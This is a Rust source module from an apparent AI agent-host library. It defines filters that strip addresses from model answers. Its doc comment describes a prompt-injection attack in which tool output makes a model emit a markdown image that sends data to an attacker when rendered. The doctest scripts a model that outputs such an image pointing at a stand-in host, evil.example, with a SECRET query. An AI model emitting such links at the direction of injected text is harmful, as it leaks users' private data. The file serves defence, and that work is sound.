//! Answer filters: sanitizing the model's answers before people see them.
//!
//! Interfaces render answers. By prompt injection, a text that a tool returned can make the model answer with an
//! image such as `![x](https://evil.example/?q=…)`. Rendering it sends the data in its address to the attacker
//! without a click, which is data exfiltration. No prompt reliably prevents that; a filter does. `links` splits
//! answers into text and code, `sanitize` removes addresses from text, `address` knows them.
//!
//! # Examples
//!
//! ```
//! # #[tokio::main(flavor = "current_thread")]
//! # async fn main() -> Result<(), Box<dyn std::error::Error>> {
//! use rockbot_core::testing::ScriptedModel;
//! use rockbot_host::AgentHost;
//! use rockbot_host::answer::SafeLinks;
//!
//! let model = ScriptedModel::new().says("Done. ![ok](https://evil.example/?q=SECRET)");
//! let host = AgentHost::in_memory().chat(model).answer_filter(SafeLinks::new()).build()?;
//!
//! let answer = host.agent().ask("session", "Sum up my mail.").await?;
//! assert_eq!(answer.text, "Done. ok (evil.example)");
//! # Ok(())
//! # }
//! ```

mod address;
mod links;
mod sanitize;
#[cfg(test)]
mod tests;

use std::fmt;

pub use links::SafeLinks;

/// A filter on the answers that people see: the final reply, the conversation that is remembered,
/// and streamed pieces.
///
/// Structured answers are not filtered, because programs read them, and neither are reports of
/// tool calls, which show what tools returned. If a filter panics, the answer is withheld.
pub trait AnswerFilter: fmt::Debug + Send + Sync + 'static {
    /// Starts filtering a new answer to the user's message `user_text`, whose addresses a filter may
    /// allow.
    fn begin(&self, user_text: &str) -> Box<dyn FilteredAnswer>;
}

impl<Shared: AnswerFilter + ?Sized> AnswerFilter for std::sync::Arc<Shared> {
    fn begin(&self, user_text: &str) -> Box<dyn FilteredAnswer> {
        (**self).begin(user_text)
    }
}

/// An answer on its way through an [`AnswerFilter`].
///
/// The output must not depend on how the answer is cut into pieces, since a stream may be cut
/// anywhere, even within an address.
pub trait FilteredAnswer: Send {
    /// Filters more of the answer, and returns the text that is safe to show by now. Undecided text
    /// is held back.
    fn push(&mut self, piece: &str) -> String;

    /// Ends the answer, and returns the rest of the text that is safe to show.
    fn finish(&mut self) -> String;
}

/// Filters a complete answer.
pub(crate) fn filter_answer(filter: &dyn AnswerFilter, user_text: &str, answer: &str) -> String {
    let mut filtered = filter.begin(user_text);
    let mut shown = filtered.push(answer);
    shown.push_str(&filtered.finish());
    shown
}
